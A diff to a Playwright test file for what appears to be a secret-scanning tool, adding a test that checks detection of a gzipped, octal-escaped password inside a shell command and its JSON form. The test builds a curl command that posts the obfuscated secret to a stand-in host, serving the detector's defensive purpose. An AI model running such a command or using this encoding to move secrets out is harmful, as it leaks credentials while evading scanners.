@@ -4,7 +4,7 @@
  */
 import { mkdirSync, rmSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
-import { deflateRawSync } from 'node:zlib';
+import { deflateRawSync, gzipSync } from 'node:zlib';
 import { expect, test } from '@playwright/test';
 import { clients, users } from '../../sandbox/accounts.js';
 import type { SandboxOptions } from '../../sandbox/server.js';
@@ -202,6 +202,19 @@ test.describe('the search', () => {
     const bytes = Buffer.from(`cut: ${secret.slice(0, 20)}… and ${payload}`);
     const hits = search.search([{ place: 'file', bytes }]);
     expect(new Set(hits.map((hit) => hit.secret)).size).toBe(2);
+  });
+
+  test('finds what was compressed and written for a shell, in JSON too', () => {
+    const octal = [...gzipSync(`password=${encodeURIComponent(secret)}`)]
+      .map((byte) => `\\${byte.toString(8).padStart(3, '0')}`)
+      .join('');
+    const command = `curl --data-binary @<(printf '${octal}') 'https://server.example'`;
+    for (const text of [command, JSON.stringify({ curl: command })])
+      expect(
+        searchFor([])
+          .search([{ place: 'file', bytes: Buffer.from(text) }])
+          .map((hit) => hit.secret),
+      ).toContain(name);
   });
 
   test('finds nothing where there is nothing', () => {
